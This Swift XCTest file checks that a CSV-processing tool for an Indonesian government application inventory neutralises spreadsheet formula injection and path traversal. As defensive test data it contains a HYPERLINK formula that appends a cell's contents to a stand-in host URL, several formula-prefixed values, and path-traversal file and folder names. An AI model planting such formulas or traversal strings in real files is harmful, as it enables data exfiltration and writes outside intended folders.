import Foundation
import XCTest

/// Text from inputs that reaches the outputs (SPEC §8): never a live formula in
/// temuan.csv, and file or sheet names never steer a write outside the outputs.
final class InjectionTests: XCTestCase {
  /// Leading characters a spreadsheet program would start a formula with.
  static let live: [Character] = ["=", "+", "-", "@", "\t", "\r"]

  /// The records of a CSV file, read by Python's csv module (an independent reader).
  func records(_ url: URL) throws -> [[String]] {
    let script = """
      import csv, json, sys
      with open(sys.argv[1], encoding="utf-8-sig", newline="") as f:
          print(json.dumps(list(csv.reader(f))))
      """
    let r = try Binary.run(
      ["-c", script, url.path], executable: URL(fileURLWithPath: "/usr/bin/python3"))
    XCTAssertEqual(r.status, 0, r.stderr)
    return try XCTUnwrap(JSONSerialization.jsonObject(with: Data(r.stdout.utf8)) as? [[String]])
  }

  func testFindingsCSVCarriesNoLiveFormula() throws {
    let work = try Binary.temporaryFolder("injection")
    defer { try? FileManager.default.removeItem(at: work) }
    let inputs = work.appendingPathComponent("in")
    try FileManager.default.createDirectory(at: inputs, withIntermediateDirectories: true)
    // Values that land in findings (unknown code, unknown choices, bad year),
    // and a file name that is itself a formula.
    let payloads = [
      "=HYPERLINK(\"http://contoh.invalid/?\"&A1,\"klik\")", "+62 811 000", "-1+1", "@SUM(1,2)",
      "\t=1+2", "\r=1+2",
    ]
    var csv = "Nama Aplikasi,Kode RAA,Basis Aplikasi,Status,Tahun Pembuatan\r\n"
    for (i, p) in payloads.enumerated() {
      let q = "\"" + p.replacingOccurrences(of: "\"", with: "\"\"") + "\""
      csv += "Aplikasi \(i),\(q),\(q),\(q),\(q)\r\n"
    }
    let name = "=HYPERLINK(\"x\")+Dinas Kesehatan.csv"
    try Data(csv.utf8).write(to: inputs.appendingPathComponent(name))
    let out = work.appendingPathComponent("out")
    let r = try Binary.run(["run", "--inputs", inputs.path, "--outputs", out.path, "--quiet"])
    XCTAssertEqual(r.status, 1, r.stderr)

    let rows = try records(out.appendingPathComponent("temuan.csv"))
    XCTAssertGreaterThan(rows.count, payloads.count)
    for row in rows {
      for field in row {
        XCTAssertFalse(
          Self.live.contains(field.first ?? " "), "a live value: \(field.debugDescription)")
      }
    }
    // The values are kept, as text: an apostrophe in front of what was written.
    let values = Set(rows.map { $0[9] })
    XCTAssertTrue(values.contains("'" + payloads[0]), "\(values)")
    XCTAssertTrue(rows.dropFirst().allSatisfy { $0[3] == "'" + name }, "\(rows.map { $0[3] })")
  }

  /// File names with `..` and an OPD written with slashes: the outputs folder
  /// holds the outputs and nothing else appears anywhere around it.
  func testNamesFromInputsNeverSteerWrites() throws {
    let work = try Binary.temporaryFolder("names")
    defer { try? FileManager.default.removeItem(at: work) }
    let inputs = work.appendingPathComponent("in")
    let nested = inputs.appendingPathComponent("a..")
    try FileManager.default.createDirectory(at: nested, withIntermediateDirectories: true)
    let token = "lolos-\(UUID().uuidString.prefix(8))"
    let rows =
      "Nama Aplikasi,Perangkat Daerah,Kode RAA,Basis Aplikasi,Status\r\n"
      + "SIMPEG,../../umpan-balik/../../../../tmp/\(token),RAA.01.02,Web,Aktif\r\n"
      + "SIMDA,Dinas/Kesehatan,RAA.01.02,Web,Aktif\r\n"
    try Data(rows.utf8).write(to: nested.appendingPathComponent("..%2F..%2Fx.csv"))
    try Data(rows.utf8).write(to: nested.appendingPathComponent("a..b..csv"))
    let out = work.appendingPathComponent("out")
    let before = try FileManager.default.subpathsOfDirectory(atPath: work.path)
    let r = try Binary.run(["run", "--inputs", inputs.path, "--outputs", out.path, "--quiet"])
    XCTAssertTrue([0, 1].contains(r.status), r.stderr)
    let after = try FileManager.default.subpathsOfDirectory(atPath: work.path)
    let added = Set(after).subtracting(before).filter { !$0.hasPrefix("out/") && $0 != "out" }
    XCTAssertEqual(added, [])
    let written = try FileManager.default.contentsOfDirectory(atPath: out.path).filter {
      !$0.hasPrefix(".")
    }
    XCTAssertEqual(written.sorted(), Binary.outputNames)
    XCTAssertFalse(FileManager.default.fileExists(atPath: "/tmp/\(token)"))
    let doc = try Binary.loadJSON(out.appendingPathComponent("arsitektur-spbe.json"))
    let files = (doc["sumber"] as? [[String: Any]] ?? []).compactMap { $0["berkas"] as? String }
    XCTAssertEqual(files, ["a../a..b..csv"])
  }
}
